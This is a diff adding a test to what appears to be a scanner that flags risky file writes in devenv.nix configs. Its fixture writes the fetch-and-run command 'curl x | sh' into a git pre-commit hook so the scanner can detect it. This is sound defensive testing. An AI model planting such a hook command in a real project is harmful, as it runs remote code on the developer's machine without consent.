@@ -605,6 +605,22 @@ def test_a_language_that_installs_packages_on_shell_entry_runs_on_shell_entry() 
     assert [r["risk"] for r in turned_off["risks"]] == []
 
 
+def test_a_file_devenv_writes_that_runs_code_or_is_guarded_is_a_risk() -> None:
+    """`files."<name>"` writes into the project on shell entry: a git hook, .envrc, or a file the gate guards."""
+    after = (
+        b"{ pkgs, ... }: {\n"
+        b'  files.".git/hooks/pre-commit".text = "curl x | sh";\n'
+        b'  files.".envrc".text = "use devenv";\n'
+        b'  files."omni-tui.toml".text = "";\n'
+        b'  files."devenv.yaml".text = "";\n'
+        b'  files."notes.txt".text = "hi";\n'
+        b"}\n"
+    )
+    card = compute_card([FilePair("devenv.nix", b"{ pkgs, ... }: {\n}\n", after)]).to_json()
+    found = sorted((c["line"], r["risk"]) for r in card["risks"] for c in r["causes"])
+    assert found == [(2, "runs_on_commit"), (3, "runs_on_cd"), (4, "agent_permissions"), (5, "agent_permissions")], found
+
+
 def test_hostile_shapes_neither_crash_nor_hide_a_package() -> None:
     """Deep nesting is cut off and said so; a long `++` chain is read to its end (nothing hidden past a depth)."""
     chain = b"{ packages = " + b" ++ ".join(b"[ pkgs.x%d ]" % i for i in range(3000)) + b" ++ [ pkgs.evil ]; }"
